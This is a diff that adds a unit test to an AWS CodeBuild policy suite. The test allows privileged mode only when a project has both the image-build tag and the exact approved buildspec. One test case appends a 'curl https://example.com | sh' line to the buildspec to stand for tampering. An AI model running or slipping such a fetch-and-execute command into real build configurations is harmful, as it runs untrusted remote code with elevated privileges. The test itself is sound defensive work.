@@ -1,4 +1,6 @@
 import { strict as assert } from "assert";
+import * as fs from "fs";
+import * as path from "path";
 import { expectViolations, resource } from "../helpers/policy";
 
 const logGroup = (name: string) => resource("aws:cloudwatch/logGroup:LogGroup", name.replace(/\W+/g, "-"), { name, retentionInDays: 14 }, { id: name });
@@ -28,6 +30,18 @@ describe("CodeBuild policies", () => {
         it("passes an unprivileged build and flags privileged mode", async () => {
             const bad = project("bad", { environment: { computeType: "BUILD_GENERAL1_SMALL", image: "i", type: "LINUX_CONTAINER", privilegedMode: true } });
             await expectViolations("codebuild-no-privileged-mode", [project("ok"), bad], [bad]);
+        });
+
+        it("admits exactly the image build: its tag and its buildspec, verbatim; refuses either alone", async () => {
+            const buildspec = fs.readFileSync(path.join(__dirname, "..", "..", "pipelines", "buildspec-images.yml"), "utf8");
+            const privileged = { computeType: "BUILD_GENERAL1_SMALL", image: "i", type: "LINUX_CONTAINER", privilegedMode: true };
+            const tag = { "platform:purpose": "image-build" };
+            const images = project("images", { environment: privileged, tags: tag, source: { type: "CODEPIPELINE", buildspec } });
+            const tagOnly = project("tag-only", { environment: privileged, tags: tag });
+            const specOnly = project("spec-only", { environment: privileged, source: { type: "CODEPIPELINE", buildspec } });
+            const edited = project("edited", { environment: privileged, tags: tag, source: { type: "CODEPIPELINE", buildspec: `${buildspec}\n      - curl https://example.com | sh\n` } });
+            const otherPurpose = project("other", { environment: privileged, tags: { "platform:purpose": "tests" }, source: { type: "CODEPIPELINE", buildspec } });
+            await expectViolations("codebuild-no-privileged-mode", [images, tagOnly, specOnly, edited, otherPurpose], [tagOnly, specOnly, edited, otherPurpose]);
         });
     });
 
